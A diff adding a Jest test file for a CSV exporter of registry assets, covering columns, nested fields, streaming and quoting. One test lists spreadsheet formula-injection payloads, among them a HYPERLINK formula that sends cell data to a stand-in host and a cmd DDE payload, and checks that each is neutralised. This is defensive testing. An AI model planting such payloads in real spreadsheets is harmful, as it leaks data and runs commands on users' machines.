@@ -1,0 +1,158 @@
+import { describe, expect, it } from '@jest/globals';
+import { parse } from 'csv-parse/sync';
+import type { AssetType } from '../asset-types/asset-type.js';
+import { AssetTypes } from '../asset-types/asset-types.js';
+import { BasicAsset } from '../asset-types/basic/basic.dto.js';
+import { Amount, Flag, Nested, Text, ValueField } from '../asset-types/fields.js';
+import * as builtIn from '../asset-types/installed.js';
+import type { ReadAsset } from '../database/asset-row.js';
+import { EncodedText } from '../text/encoded-text.js';
+import { RegistryTime } from '../time/registry-time.js';
+import { AssetTable } from './asset-table.js';
+
+class Survey {
+  @Text({ uk: 'Номер', en: 'Number' }) number!: string;
+  /** A DTO may contain itself. */
+  @Nested(() => Survey, { uk: 'Попереднє', en: 'Earlier', optional: true }) earlier?: Survey;
+}
+
+class LandAsset extends BasicAsset {
+  @Amount({ uk: 'Площа', en: 'Area' }) area!: number;
+  @Flag({ uk: 'Огороджена', en: 'Fenced' }) fenced = false;
+  @Nested(() => Survey, { uk: 'Обмір', en: 'Survey' }) survey!: Survey;
+  @ValueField(() => undefined, { uk: 'Мітки', en: 'Tags', schema: { type: 'array', items: { type: 'string' } } })
+  tags!: string[];
+}
+
+const LAND = { area: 12, fenced: true, survey: { number: '7', earlier: { number: '6' } }, tags: ['a'] };
+const land: AssetType<LandAsset> = {
+  name: 'land',
+  labels: { uk: 'Ділянка', en: 'Land' },
+  dto: LandAsset,
+  example: { data: { ...builtIn.basic.example.data, assetType: 'land', ...LAND } },
+};
+const time = new RegistryTime('Europe/Kyiv');
+
+type Row = Record<string, string>;
+
+const assetOf = (fields: object, more: Partial<ReadAsset> = {}): ReadAsset => ({
+  id: '0'.repeat(32),
+  assetId: 'UA-2026-11-21-000001',
+  assetType: 'basic',
+  status: 'pending',
+  owner: 'broker',
+  createdUs: 1_795_440_264_030_682,
+  modifiedUs: 1_795_440_264_030_683,
+  relatedLot: null,
+  body: EncodedText.from(Buffer.from(JSON.stringify(fields))),
+  ...more,
+});
+
+async function printed(assets: ReadAsset[], types: readonly AssetType[] = Object.values(builtIn)): Promise<string> {
+  const table = new AssetTable(new AssetTypes(types), time);
+  const chunks: Buffer[] = [];
+  for await (const chunk of table.print(assets)) chunks.push(chunk);
+  return table.header + Buffer.concat(chunks).toString();
+}
+
+const read = (text: string): Row[] => parse(text, { columns: true, record_delimiter: '\r\n' }) as unknown as Row[];
+const rowOf = async (fields: object, more?: Partial<ReadAsset>): Promise<Row> =>
+  read(await printed([assetOf(fields, more)]))[0] as Row;
+const titled = async (title: string): Promise<string | undefined> => (await rowOf({ title }))['title'];
+
+describe('an asset as a line of CSV', () => {
+  it('has the registry’s members and every field of one value, numbers as JSON has them, and nothing for what is absent', async () => {
+    const { data } = builtIn.basic.example;
+    const row = await rowOf({
+      ...data,
+      value: { currency: 'UAH', amount: 100, valueAddedTaxIncluded: true },
+      quantity: 5,
+    });
+    expect(row).toMatchObject({
+      id: '0'.repeat(32),
+      assetID: 'UA-2026-11-21-000001',
+      assetType: 'basic',
+      status: 'pending',
+      title: data['title'],
+      'value.currency': 'UAH',
+      'value.amount': '100.0',
+      'value.valueAddedTaxIncluded': 'true',
+      quantity: '5',
+      owner: 'broker',
+      date: time.print(1_795_440_264_030_682),
+      dateModified: time.print(1_795_440_264_030_683),
+      relatedLot: '',
+      'debt.value.amount': '',
+    });
+    expect((await rowOf({}, { relatedLot: 'f'.repeat(32) }))['relatedLot']).toBe('f'.repeat(32));
+  });
+
+  it('of a type that is not installed any more is read as a basic one', async () => {
+    expect(await rowOf({ title: 'Ліс', gone: 1 }, { assetType: 'forest' })).toMatchObject({
+      assetType: 'forest',
+      title: 'Ліс',
+    });
+  });
+
+  it('keeps its columns whatever a type adds: they follow, without lists, and a DTO in itself ends there', async () => {
+    const [header = ''] = (await printed([])).split('\r\n');
+    const text = await printed([assetOf(LAND, { assetType: 'land' })], [...Object.values(builtIn), land]);
+    expect(text.split('\r\n')[0]).toBe(`${header},area,fenced,survey.number`);
+    expect(read(text)).toMatchObject([{ area: '12.0', fenced: 'true', 'survey.number': '7' }]);
+  });
+
+  it('is printed in portions that others have a turn between, and no line is lost', async () => {
+    const assets = Array.from({ length: 250 }, (_, i) => assetOf({ title: `Назва ${i}` }));
+    assets.push(assetOf({ title: 'Велика', description: 'я'.repeat(300_000) }), assetOf({ title: 'Остання' }));
+    const table = new AssetTable(new AssetTypes(Object.values(builtIn)), time);
+    let portions = 0;
+    for await (const _ of table.print(assets)) portions++;
+    expect(portions).toBe(4);
+    expect(read(await printed(assets)).map(({ title }) => title)).toEqual(
+      assets.map(({ body }) => (JSON.parse(body.toString()) as Row)['title']),
+    );
+  });
+});
+
+describe('a cell', () => {
+  it.each([
+    'a "quoted" word',
+    'a, b; c',
+    'two\nlines',
+    'two\r\nlines',
+    'a return\ralone',
+    '"',
+    ',',
+    "'apostrophe",
+    ' spaces ',
+    '🚀 Їжак\u2028\u0085\ufeff',
+    '1e5',
+    '-12.5',
+    '-0',
+    'a=b',
+  ])('comes back as it was: %j', async (title) => {
+    expect(await titled(title)).toBe(title);
+  });
+
+  it.each([
+    '=HYPERLINK("http://a.example/?"&A1)',
+    '+380440000000',
+    '+3',
+    "-2+3+cmd|' /C calc'!A0",
+    '-',
+    '--1',
+    '-01',
+    '-1.',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+  ])('that a spreadsheet would run is harmless: %j', async (title) => {
+    expect(await titled(title)).toBe(`'${title}`);
+  });
+
+  it('is quoted where it must be, and lines end as RFC 4180 says', async () => {
+    const text = await printed([assetOf({ title: '=1,"2"', description: 'a\rb' })]);
+    expect(text).toContain(`,"'=1,""2""","a\rb",`);
+    expect(text.endsWith('\r\n')).toBe(true);
+  });
+});
